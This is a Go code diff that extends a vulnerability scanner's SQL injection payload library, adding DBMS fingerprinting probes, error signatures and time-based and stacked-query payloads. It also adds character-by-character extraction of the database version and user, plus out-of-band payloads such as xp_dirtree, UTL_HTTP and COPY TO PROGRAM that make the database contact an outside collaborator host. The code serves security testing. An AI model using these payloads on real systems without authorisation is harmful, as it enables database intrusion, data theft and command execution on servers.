@@ -1,6 +1,10 @@
 package payloads
 
 import (
+	"errors"
+	"fmt"
+	"regexp"
+	"slices"
 	"strings"
 )
 
@@ -8,18 +12,45 @@ import (
 
 // BooleanSQLiTest represents a single test case for Boolean-Based SQLi.
 type BooleanSQLiTest struct {
-	TruePayload  string
-	FalsePayload string
-	Description  string
+	TruePayload  string `yaml:"true_payload"`
+	FalsePayload string `yaml:"false_payload"`
+	Description  string `yaml:"description"`
+	// DBMS restricts the test to one database system when its syntax is specific to it (e.g.,
+	// "||" string concatenation). Empty means the test applies to every DBMS.
+	DBMS string `yaml:"dbms,omitempty"`
 }
 
 // TimeBasedSQLiTest represents a single test case for Time-Based Blind SQLi.
 type TimeBasedSQLiTest struct {
 	// PayloadTemplate contains a {DELAY} placeholder for the sleep duration.
-	PayloadTemplate string
-	Description     string
+	PayloadTemplate string `yaml:"template"`
+	Description     string `yaml:"description"`
 	// DBMS specifies the target database system (e.g., "MySQL", "PostgreSQL", "MSSQL", "Oracle").
-	DBMS string
+	DBMS string `yaml:"dbms"`
+}
+
+// DBFingerprintProbe is a condition that is syntactically valid (and true) on a single DBMS only.
+// When appended to an injectable value it leaves the response unchanged on the matching backend
+// and breaks the query everywhere else.
+type DBFingerprintProbe struct {
+	Payload     string
+	DBMS        string
+	Description string
+}
+
+// SQLiErrorSignature is a database error pattern with the database family a match indicates.
+type SQLiErrorSignature struct {
+	Pattern string
+	Regex   *regexp.Regexp
+	DBMS    string // Empty for patterns shared by several databases and patterns added by the user.
+}
+
+// OOBSQLiPayload is an out-of-band SQL injection payload. {HOST} is replaced with a unique
+// collaborator host name and {URL} with a unique collaborator URL.
+type OOBSQLiPayload struct {
+	Payload     string
+	DBMS        string
+	Description string
 }
 
 // --- Payload & Pattern Variables ---
@@ -27,9 +58,22 @@ type TimeBasedSQLiTest struct {
 // SQLiPayloads are simple strings designed to trigger database errors. (Name reverted to original)
 var SQLiPayloads []string
 
-// SQLiErrorPatterns are regex patterns to detect database errors in responses.
+// SQLiErrorPatternsByDBMS are the built-in database error patterns, grouped by the database
+// family they identify. Patterns under "" are shared by several databases.
+var SQLiErrorPatternsByDBMS map[string][]string
+
+// SQLiErrorPatterns are regex patterns to detect database errors in responses: the patterns of
+// SQLiErrorPatternsByDBMS, database by database, then the shared ones.
 var SQLiErrorPatterns []string
 
+// SQLiErrorRegexes are SQLiErrorPatterns compiled once at init, plus any valid patterns added
+// with AddSQLiErrorPatterns. Scanners match against these instead of compiling per response.
+var SQLiErrorRegexes []*regexp.Regexp
+
+// SQLiErrorSignatures are SQLiErrorRegexes with the database family of each pattern, taken
+// from SQLiErrorPatternsByDBMS.
+var SQLiErrorSignatures []SQLiErrorSignature
+
 // BooleanSQLiTests contains test cases for Boolean-Based SQLi.
 var BooleanSQLiTests []BooleanSQLiTest
 
@@ -40,8 +84,12 @@ var TimeBasedSQLiTests []TimeBasedSQLiTest
 // The scanner's engine should replace {NULLS} with the correct number of NULL columns.
 var UnionSQLiPayloadTemplates []string
 
-// StackedQueriesSQLiPayloads contains payloads for testing stacked query injection.
-var StackedQueriesSQLiPayloads []string
+// StackedQueriesSQLiTests terminate the original statement and append a sleeping one. They only
+// delay the response when the backend executes multiple statements per query.
+var StackedQueriesSQLiTests []TimeBasedSQLiTest
+
+// OOBSQLiPayloads make the database resolve or fetch a collaborator host.
+var OOBSQLiPayloads []OOBSQLiPayload
 
 // SQLiVersionRegexes are regex patterns to extract DB versions from error messages.
 var SQLiVersionRegexes []string
@@ -49,6 +97,59 @@ var SQLiVersionRegexes []string
 // ContentBasedSQLiPayloads contains payloads designed to reveal additional content.
 var ContentBasedSQLiPayloads []string
 
+// SQLiPayloadDBMS maps error-based payloads that only make sense on one DBMS to that DBMS.
+// Payloads not listed here are generic and always sent.
+var SQLiPayloadDBMS map[string]string
+
+// DBFingerprintProbes contains DBMS-discriminating probes used before the main SQLi tests.
+var DBFingerprintProbes []DBFingerprintProbe
+
+// DBFingerprintControlPayload is a condition that is invalid on every DBMS. If it leaves the
+// response unchanged, the parameter does not reach a query and fingerprinting is inconclusive.
+const DBFingerprintControlPayload = " AND DURSGO_NO_SUCH_FUNC()=1"
+
+// SQLiExtraction is the SQL of one DBMS for reading a short value through a confirmed blind
+// injection, one character at a time, as proof of exploitability (-poc-extraction).
+type SQLiExtraction struct {
+	DBMS string
+	// Version and User are expressions returning the database version and the current database
+	// user. User is empty when the DBMS has no users.
+	Version string
+	User    string
+	// CharCode is a condition comparing the code of the character at {POS} (from 1) of {EXPR}
+	// with {CODE}. It is false past the end of the value.
+	CharCode string
+	// Sleep is the sleep call of the time-based payloads of the DBMS, and ConditionalSleep the
+	// same call made only when {CONDITION} holds.
+	Sleep            string
+	ConditionalSleep string
+}
+
+// SQLiExtractions are the extraction queries of each DBMS, tried in this order when the backend
+// of a boolean-based finding is unknown.
+var SQLiExtractions = []SQLiExtraction{
+	{DBMS: "MySQL", Version: "@@version", User: "CURRENT_USER()", CharCode: "ASCII(SUBSTRING(({EXPR}),{POS},1))>{CODE}",
+		Sleep: "SLEEP({DELAY})", ConditionalSleep: "IF({CONDITION},SLEEP({DELAY}),0)"},
+	{DBMS: "PostgreSQL", Version: "version()", User: "current_user", CharCode: "ASCII(SUBSTRING(({EXPR}),{POS},1))>{CODE}",
+		Sleep: "pg_sleep({DELAY})", ConditionalSleep: "(CASE WHEN {CONDITION} THEN pg_sleep({DELAY}) END)"},
+	{DBMS: "MSSQL", Version: "@@version", User: "SYSTEM_USER", CharCode: "ASCII(SUBSTRING(({EXPR}),{POS},1))>{CODE}",
+		Sleep: "WAITFOR DELAY '0:0:{DELAY}'", ConditionalSleep: "IF {CONDITION} WAITFOR DELAY '0:0:{DELAY}'"},
+	{DBMS: "Oracle", Version: "(SELECT banner FROM v$version WHERE ROWNUM=1)", User: "USER", CharCode: "ASCII(SUBSTR(({EXPR}),{POS},1))>{CODE}",
+		Sleep: "dbms_pipe.receive_message('a',{DELAY})", ConditionalSleep: "(CASE WHEN {CONDITION} THEN dbms_pipe.receive_message('a',{DELAY}) ELSE 0 END)"},
+	{DBMS: "SQLite", Version: "sqlite_version()", CharCode: "UNICODE(SUBSTR(({EXPR}),{POS},1))>{CODE}",
+		Sleep: "RANDOMBLOB({DELAY}00000000/2)", ConditionalSleep: "RANDOMBLOB(CASE WHEN {CONDITION} THEN {DELAY}00000000/2 ELSE 1 END)"},
+}
+
+// SQLiExtractionForDBMS returns the extraction queries of dbms.
+func SQLiExtractionForDBMS(dbms string) (SQLiExtraction, bool) {
+	for _, extraction := range SQLiExtractions {
+		if extraction.DBMS == dbms {
+			return extraction, true
+		}
+	}
+	return SQLiExtraction{}, false
+}
+
 // --- Initialization ---
 
 func init() {
@@ -58,12 +159,42 @@ func init() {
 		"'", "\"", "`", "');", "';", "))", "OR 1=1", "--", "/*", "#",
 	}
 
-	SQLiErrorPatterns = []string{
-		`(?i)you have an error in your sql syntax`, `(?i)warning: mysql_fetch_array()`,
-		`(?i)unclosed quotation mark after the character string`, `(?i)incorrect syntax near`,
-		`(?i)ora-[0-9]{5}:`, `(?i)psycopg2\.errors\.syntaxerror`, `(?i)sqlite3\.sqliteexception`,
-		`(?i)Uncaught PDOException:`, `(?i)unrecognized token:`, `(?i)supplied argument is not a valid`,
-		`(?i)Microsoft OLE DB Provider for SQL Server`, `(?i)OLE DB provider "SQLNCLI"`,
+	SQLiPayloadDBMS = map[string]string{
+		"`": "MySQL",
+		"#": "MySQL",
+	}
+
+	SQLiErrorPatternsByDBMS = map[string][]string{
+		"MySQL": {
+			`(?i)you have an error in your sql syntax`, `(?i)warning: mysql_fetch_array()`,
+			`(?i)check the manual that corresponds to your (?:mysql|mariadb) server version`,
+			`(?i)com\.mysql\.jdbc\.exceptions`, `(?i)MySqlException \(0x`, `(?i)SQLSTATE\[42000\]: Syntax error or access violation: 1064`,
+		},
+		"MSSQL": {
+			`(?i)unclosed quotation mark after the character string`, `(?i)incorrect syntax near`,
+			`(?i)Microsoft OLE DB Provider for SQL Server`, `(?i)OLE DB provider "SQLNCLI"`,
+			`(?i)System\.Data\.SqlClient\.SqlException`, `(?i)com\.microsoft\.sqlserver\.jdbc`, `(?i)\[SQL Server\]`,
+		},
+		"PostgreSQL": {
+			`(?i)psycopg2\.errors\.syntaxerror`, `PG::[A-Z][A-Za-z]*Error`, `(?i)ERROR:\s+syntax error at or near`,
+			`(?i)unterminated quoted string at or near`, `(?i)org\.postgresql\.util\.PSQLException`,
+			`(?i)Npgsql\.PostgresException`, `(?i)pg_query\(\): Query failed`,
+		},
+		"Oracle": {
+			`(?i)ora-[0-9]{5}:`, `(?i)quoted string not properly terminated`, `(?i)SQL command not properly ended`,
+			`(?i)oracle\.jdbc\.driver`, `(?i)Warning: oci_(?:parse|execute)\(\)`,
+		},
+		"SQLite": {
+			`(?i)sqlite3\.sqliteexception`, `SQLite3::SQLException`, `(?i)sqlite3\.OperationalError`,
+			`(?i)unrecognized token:`, `SQLITE_ERROR`, `(?i)System\.Data\.SQLite\.SQLiteException`,
+			`(?i)near "[^"]*": syntax error`,
+		},
+		"": {
+			`(?i)Uncaught PDOException:`, `(?i)supplied argument is not a valid`,
+		},
+	}
+	for _, dbms := range append(slices.Clone(knownDBMS), "") {
+		SQLiErrorPatterns = append(SQLiErrorPatterns, SQLiErrorPatternsByDBMS[dbms]...)
 	}
 
 	SQLiVersionRegexes = []string{
@@ -75,6 +206,19 @@ func init() {
 		`(\d{1,2}\.\d{1,2}\.\d{1,2})[^.]*?for\sLinux`,
 	}
 
+	// --- DBMS Fingerprinting Probes ---
+	DBFingerprintProbes = []DBFingerprintProbe{
+		{Payload: " AND CONNECTION_ID()=CONNECTION_ID()", DBMS: "MySQL", Description: "MySQL connection function"},
+		{Payload: " /*!50000AND 1=1*/", DBMS: "MySQL", Description: "MySQL versioned comment"},
+		{Payload: " AND 1::int=1", DBMS: "PostgreSQL", Description: "PostgreSQL cast operator"},
+		{Payload: " AND pg_backend_pid()=pg_backend_pid()", DBMS: "PostgreSQL", Description: "PostgreSQL backend function"},
+		{Payload: " AND @@SPID=@@SPID", DBMS: "MSSQL", Description: "MSSQL session variable"},
+		{Payload: " AND 'a'+'b'='ab'", DBMS: "MSSQL", Description: "MSSQL string concatenation"},
+		{Payload: " AND ROWNUM=ROWNUM", DBMS: "Oracle", Description: "Oracle pseudo-column"},
+		{Payload: " AND LENGTH(SYSDATE)=LENGTH(SYSDATE)", DBMS: "Oracle", Description: "Oracle date function"},
+		{Payload: " AND sqlite_version()=sqlite_version()", DBMS: "SQLite", Description: "SQLite version function"},
+	}
+
 	// --- Boolean-Based Payloads ---
 	BooleanSQLiTests = []BooleanSQLiTest{
 		{
@@ -107,6 +251,38 @@ func init() {
 			FalsePayload: " AND 1=2 -- -",
 			Description:  "Numeric context with comment",
 		},
+		// Concatenating an empty string leaves a quoted value unchanged on a vulnerable query,
+		// while a non-empty one changes it. The operator depends on the DBMS.
+		{
+			TruePayload:  "'||'",
+			FalsePayload: "'||'dursgo",
+			Description:  "String concatenation with ||",
+			DBMS:         "PostgreSQL",
+		},
+		{
+			TruePayload:  "'||'",
+			FalsePayload: "'||'dursgo",
+			Description:  "String concatenation with ||",
+			DBMS:         "Oracle",
+		},
+		{
+			TruePayload:  "'||'",
+			FalsePayload: "'||'dursgo",
+			Description:  "String concatenation with ||",
+			DBMS:         "SQLite",
+		},
+		{
+			TruePayload:  "'+'",
+			FalsePayload: "'+'dursgo",
+			Description:  "String concatenation with +",
+			DBMS:         "MSSQL",
+		},
+		{
+			TruePayload:  "' '",
+			FalsePayload: "' 'dursgo",
+			Description:  "Adjacent string literal concatenation",
+			DBMS:         "MySQL",
+		},
 	}
 
 	// --- Time-Based Blind Payloads ---
@@ -120,6 +296,12 @@ func init() {
 		{PayloadTemplate: "''; WAITFOR DELAY '0:0:{DELAY}'", Description: "MSSQL string time-based", DBMS: "MSSQL"},
 		{PayloadTemplate: "AND (SELECT 2 FROM (SELECT(SLEEP({DELAY})))a)", Description: "MySQL/MariaDB complex time-based", DBMS: "MySQL"},
 		{PayloadTemplate: "AND 1=dbms_pipe.receive_message('a',{DELAY})", Description: "Oracle time-based", DBMS: "Oracle"},
+		{PayloadTemplate: "'||dbms_pipe.receive_message('a',{DELAY})||'", Description: "Oracle string concatenation time-based", DBMS: "Oracle"},
+		{PayloadTemplate: "'||pg_sleep({DELAY})||'", Description: "PostgreSQL string concatenation time-based", DBMS: "PostgreSQL"},
+		// SQLite has no sleep function; hashing a large random blob takes roughly a second per
+		// 100 MB on common hardware.
+		{PayloadTemplate: "AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({DELAY}00000000/2))))", Description: "SQLite heavy query (RANDOMBLOB) time-based", DBMS: "SQLite"},
+		{PayloadTemplate: "' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({DELAY}00000000/2)))) AND '1'='1", Description: "SQLite string heavy query (RANDOMBLOB) time-based", DBMS: "SQLite"},
 	}
 
 	// --- UNION-Based Payload Templates ---
@@ -132,11 +314,23 @@ func init() {
 	}
 
 	// --- Stacked Queries Payloads ---
-	StackedQueriesSQLiPayloads = []string{
-		"; SELECT pg_sleep(10) --", // PostgreSQL
-		"'; SELECT pg_sleep(10) --",
-		"; WAITFOR DELAY '0:0:10' --", // MSSQL
-		"'; WAITFOR DELAY '0:0:10' --",
+	StackedQueriesSQLiTests = []TimeBasedSQLiTest{
+		{PayloadTemplate: "; WAITFOR DELAY '0:0:{DELAY}'--", Description: "MSSQL stacked WAITFOR", DBMS: "MSSQL"},
+		{PayloadTemplate: "'; WAITFOR DELAY '0:0:{DELAY}'--", Description: "MSSQL string stacked WAITFOR", DBMS: "MSSQL"},
+		{PayloadTemplate: "); WAITFOR DELAY '0:0:{DELAY}'--", Description: "MSSQL parenthesized stacked WAITFOR", DBMS: "MSSQL"},
+		{PayloadTemplate: "; SELECT pg_sleep({DELAY})--", Description: "PostgreSQL stacked pg_sleep", DBMS: "PostgreSQL"},
+		{PayloadTemplate: "'; SELECT pg_sleep({DELAY})--", Description: "PostgreSQL string stacked pg_sleep", DBMS: "PostgreSQL"},
+		{PayloadTemplate: "; SELECT SLEEP({DELAY})-- -", Description: "MySQL stacked SLEEP (multi-statement drivers only)", DBMS: "MySQL"},
+		{PayloadTemplate: "'; SELECT SLEEP({DELAY})-- -", Description: "MySQL string stacked SLEEP (multi-statement drivers only)", DBMS: "MySQL"},
+	}
+
+	// --- Out-of-Band Payloads ---
+	OOBSQLiPayloads = []OOBSQLiPayload{
+		{Payload: `' AND LOAD_FILE(CONCAT('\\\\','{HOST}','\\a')) IS NULL-- -`, DBMS: "MySQL", Description: "MySQL LOAD_FILE UNC path (Windows hosts)"},
+		{Payload: `'; EXEC master..xp_dirtree '\\{HOST}\a'--`, DBMS: "MSSQL", Description: "MSSQL xp_dirtree UNC path"},
+		{Payload: `' AND (SELECT UTL_INADDR.GET_HOST_ADDRESS('{HOST}') FROM dual) IS NOT NULL--`, DBMS: "Oracle", Description: "Oracle UTL_INADDR DNS lookup"},
+		{Payload: `' AND (SELECT UTL_HTTP.REQUEST('{URL}') FROM dual) IS NOT NULL--`, DBMS: "Oracle", Description: "Oracle UTL_HTTP request"},
+		{Payload: `'; COPY (SELECT '') TO PROGRAM 'nslookup {HOST}'--`, DBMS: "PostgreSQL", Description: "PostgreSQL COPY TO PROGRAM DNS lookup"},
 	}
 
 	// --- Content-Based Payloads ---
@@ -150,20 +344,156 @@ func init() {
 
 	// Menambahkan pola untuk deteksi versi Oracle
 	SQLiVersionRegexes = append(SQLiVersionRegexes, `Oracle Database .* Release ([\d\.]+)`)
+
+	// Built-in patterns are trusted; a typo here should fail loudly at startup.
+	compileSQLiErrorPatterns()
+}
+
+// AddSQLiErrorPatterns compiles user-supplied error patterns and appends them to
+// SQLiErrorPatterns and SQLiErrorRegexes. Invalid patterns are skipped and reported in the
+// returned error; the valid ones are still added. It must be called before scanning starts.
+func AddSQLiErrorPatterns(patterns []string) error {
+	payloadsMu.Lock()
+	defer payloadsMu.Unlock()
+	var errs []error
+	for _, pattern := range patterns {
+		re, err := regexp.Compile(pattern)
+		if err != nil {
+			errs = append(errs, fmt.Errorf("invalid SQLi error pattern %q: %w", pattern, err))
+			continue
+		}
+		SQLiErrorPatterns = append(slices.Clip(SQLiErrorPatterns), pattern)
+		SQLiErrorRegexes = append(slices.Clip(SQLiErrorRegexes), re)
+		SQLiErrorSignatures = append(slices.Clip(SQLiErrorSignatures), SQLiErrorSignature{Pattern: pattern, Regex: re})
+	}
+	return errors.Join(errs...)
 }
 
+// SQLiPayloadsForDBMS returns the error-based payloads relevant to dbms.
+// An empty or unknown dbms returns the full list.
+func SQLiPayloadsForDBMS(dbms string) []string {
+	payloadsMu.RLock()
+	defer payloadsMu.RUnlock()
+	if dbms == "" || dbms == "Unknown" {
+		return SQLiPayloads
+	}
+	var filtered []string
+	for _, payload := range SQLiPayloads {
+		if target, ok := SQLiPayloadDBMS[payload]; ok && target != dbms {
+			continue
+		}
+		filtered = append(filtered, payload)
+	}
+	return filtered
+}
+
+// TimeBasedSQLiTestsForDBMS returns the time-based tests targeting dbms.
+// An empty or unknown dbms returns the full list.
+func TimeBasedSQLiTestsForDBMS(dbms string) []TimeBasedSQLiTest {
+	payloadsMu.RLock()
+	defer payloadsMu.RUnlock()
+	if dbms == "" || dbms == "Unknown" {
+		return TimeBasedSQLiTests
+	}
+	var filtered []TimeBasedSQLiTest
+	for _, test := range TimeBasedSQLiTests {
+		if test.DBMS == dbms {
+			filtered = append(filtered, test)
+		}
+	}
+	if len(filtered) == 0 {
+		return TimeBasedSQLiTests // No payloads for this DBMS (e.g., after a payload file); don't skip the test entirely.
+	}
+	return filtered
+}
+
+// BooleanSQLiTestsForDBMS returns the boolean-based tests applying to dbms: the tests without a
+// DBMS and those targeting it. An empty or unknown dbms returns the full list.
+func BooleanSQLiTestsForDBMS(dbms string) []BooleanSQLiTest {
+	payloadsMu.RLock()
+	defer payloadsMu.RUnlock()
+	if dbms == "" || dbms == "Unknown" {
+		return BooleanSQLiTests
+	}
+	var filtered []BooleanSQLiTest
+	for _, test := range BooleanSQLiTests {
+		if test.DBMS == "" || test.DBMS == dbms {
+			filtered = append(filtered, test)
+		}
+	}
+	return filtered
+}
+
+// MatchSQLiError returns the first error signature matching body and the text it matched.
+func MatchSQLiError(body string) (SQLiErrorSignature, string, bool) {
+	for _, signature := range GetSQLiErrorSignatures() {
+		if loc := signature.Regex.FindStringIndex(body); loc != nil {
+			return signature, body[loc[0]:loc[1]], true
+		}
+	}
+	return SQLiErrorSignature{}, "", false
+}
+
+// StackedQueriesSQLiTestsForDBMS returns the stacked-query tests targeting dbms.
+// An empty or unknown dbms returns the full list; a DBMS without statement stacking
+// (e.g., Oracle) returns none.
+func StackedQueriesSQLiTestsForDBMS(dbms string) []TimeBasedSQLiTest {
+	payloadsMu.RLock()
+	defer payloadsMu.RUnlock()
+	if dbms == "" || dbms == "Unknown" {
+		return StackedQueriesSQLiTests
+	}
+	var filtered []TimeBasedSQLiTest
+	for _, test := range StackedQueriesSQLiTests {
+		if test.DBMS == dbms {
+			filtered = append(filtered, test)
+		}
+	}
+	return filtered
+}
+
+// OOBSQLiPayloadsForDBMS returns the out-of-band payloads targeting dbms.
+// An empty or unknown dbms returns the full list.
+func OOBSQLiPayloadsForDBMS(dbms string) []OOBSQLiPayload {
+	if dbms == "" || dbms == "Unknown" {
+		return OOBSQLiPayloads
+	}
+	var filtered []OOBSQLiPayload
+	for _, payload := range OOBSQLiPayloads {
+		if payload.DBMS == dbms {
+			filtered = append(filtered, payload)
+		}
+	}
+	return filtered
+}
+
+// ExtractDBVersion returns the first database version found in an error message, or "".
+func ExtractDBVersion(errorEvidence string) string {
+	for _, pattern := range SQLiVersionRegexes {
+		re, err := regexp.Compile(pattern)
+		if err != nil {
+			continue
+		}
+		if match := re.FindStringSubmatch(errorEvidence); len(match) > 1 {
+			return match[1]
+		}
+	}
+	return ""
+}
+
+// IgnoredParams are the (lower-case) anti-CSRF token and session parameters that are not
+// injected into. They also seed the token fields refreshed before each test request.
+var IgnoredParams = []string{"_csrf_token", "csrf_token", "csrf", "token", "session_id", "session", "__cfduid"}
+
 // IsIgnoredParam checks if a parameter should be ignored for SQLi testing
 func IsIgnoredParam(paramName string) bool {
-	ignoredParams := map[string]bool{
-		"_csrf_token": true,
-		"csrf_token":  true,
-		"csrf":        true,
-		"token":       true,
-		"session_id":  true,
-		"session":     true,
-		"__cfduid":    true,
+	lowerName := strings.ToLower(paramName)
+	for _, ignored := range IgnoredParams {
+		if lowerName == ignored {
+			return true
+		}
 	}
-	return ignoredParams[strings.ToLower(paramName)]
+	return false
 }
 
 // IsSQLResponse checks if the response contains SQL error messages
@@ -196,7 +526,7 @@ func InferDBType(errorEvidence string) string {
 	if strings.Contains(lowerEvidence, "ora-") || strings.Contains(lowerEvidence, "oracle") {
 		return "Oracle"
 	}
-	if strings.Contains(lowerEvidence, "postgre") || strings.Contains(lowerEvidence, "pg_") {
+	if strings.Contains(lowerEvidence, "postgre") || strings.Contains(lowerEvidence, "pg_") || strings.Contains(lowerEvidence, "pg::") || strings.Contains(lowerEvidence, "psql") {
 		return "PostgreSQL"
 	}
 	if strings.Contains(lowerEvidence, "mssql") || strings.Contains(lowerEvidence, "sql server") || strings.Contains(lowerEvidence, "oledb") {